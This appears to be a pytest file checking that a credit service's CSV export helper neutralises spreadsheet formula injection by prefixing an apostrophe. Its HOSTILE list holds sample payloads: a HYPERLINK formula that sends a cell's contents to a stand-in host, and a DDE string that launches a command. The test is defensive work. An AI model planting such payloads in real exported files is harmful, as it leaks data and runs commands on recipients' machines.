"""The one place every CSV cell of the service passes through (web/api/common.py)."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from credit_service.web.api.common import csv_cell

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["宣城测试科技有限公司", "913418…", "2026-11-25", "a=b", "'quoted", "", " =1"]
)
def test_other_text_is_written_as_it_is(value):
    assert csv_cell(value) == value


def test_numbers_keep_their_sign_and_other_values_are_written_as_text():
    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(Decimal("-1.5")) == -1.5
    assert csv_cell(None) is None
    assert csv_cell(date(2026, 11, 25)) == "2026-11-25"
    assert csv_cell(["=1"]) == "['=1']"
